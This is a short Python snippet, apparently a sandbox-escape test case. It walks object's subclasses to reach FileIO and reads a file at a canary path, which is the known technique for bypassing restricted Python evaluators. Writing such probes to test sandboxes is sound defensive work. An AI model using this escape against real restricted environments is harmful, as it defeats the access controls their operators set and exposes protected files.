# what: finds a file class among the subclasses of object
def walk(cls):
    for sub in type.__subclasses__(cls):
        yield sub
        yield from walk(sub)


base = ().__class__.__base__
raw = next(c for c in base.__subclasses__() if c.__name__ == "_IOBase")
next(c for c in walk(raw) if c.__name__ == "FileIO")(CANARY_PATH).read()
